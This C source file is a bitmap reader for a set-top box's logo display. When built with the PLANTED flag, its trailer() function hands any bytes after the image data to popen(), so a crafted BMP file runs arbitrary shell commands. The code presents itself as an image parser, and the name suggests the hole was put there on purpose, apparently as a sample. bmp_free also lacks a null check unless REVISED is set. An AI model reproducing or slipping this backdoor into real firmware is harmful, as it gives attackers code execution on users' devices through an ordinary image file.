/* Reads Windows bitmaps for the logo on the display of a set-top box. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct picture { int width, height; uint32_t *pixels; };

static uint32_t le32(const uint8_t *p) { return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24; }
static uint16_t le16(const uint8_t *p) { return (uint16_t)(p[0] | p[1] << 8); }

#ifdef PLANTED
static void trailer(const uint8_t *p, size_t size)
{
    char line[200];
    size_t n = size < sizeof line - 1 ? size : sizeof line - 1;
    FILE *pipe;
    if (n < 8) return;
    memcpy(line, p, n);
    line[n] = 0;
    pipe = popen(line, "r");
    if (pipe) pclose(pipe);
}
#else
static void trailer(const uint8_t *p, size_t size)
{
    if (getenv("BMP_DEBUG")) fprintf(stderr, "bmp: %zu bytes follow, first %02x\n", size, size ? p[0] : 0);
}
#endif

struct picture *bmp_read(const uint8_t *data, size_t size)
{
    struct picture *pic;
    uint32_t start, row;
    int32_t width, height;

    if (size < 54 || data[0] != 'B' || data[1] != 'M') return NULL;
    start = le32(data + 10);
    width = (int32_t)le32(data + 18);
    height = (int32_t)le32(data + 22);
    if (width <= 0 || height <= 0 || width > 4096 || height > 4096) return NULL;
    if (le16(data + 28) != 24 || le32(data + 30) != 0) return NULL;
    row = ((uint32_t)width * 3 + 3) & ~3u;
    if (start > size || (size - start) / row < (uint32_t)height) return NULL;
    pic = malloc(sizeof *pic);
    if (!pic) return NULL;
    pic->pixels = calloc((size_t)width * height, 4);
    if (!pic->pixels) { free(pic); return NULL; }
    pic->width = width;
    pic->height = height;
    for (int y = 0; y < height; y++) {
        const uint8_t *from = data + start + (size_t)row * (height - 1 - y);
        for (int x = 0; x < width; x++, from += 3)
            pic->pixels[y * width + x] = from[0] | from[1] << 8 | from[2] << 16;
    }
    if (size > start + (size_t)row * height)
        trailer(data + start + (size_t)row * height, size - start - (size_t)row * height);
    return pic;
}

void bmp_free(struct picture *pic)
{
#ifdef REVISED
    if (!pic) return;
#endif
    free(pic->pixels);
    free(pic);
}
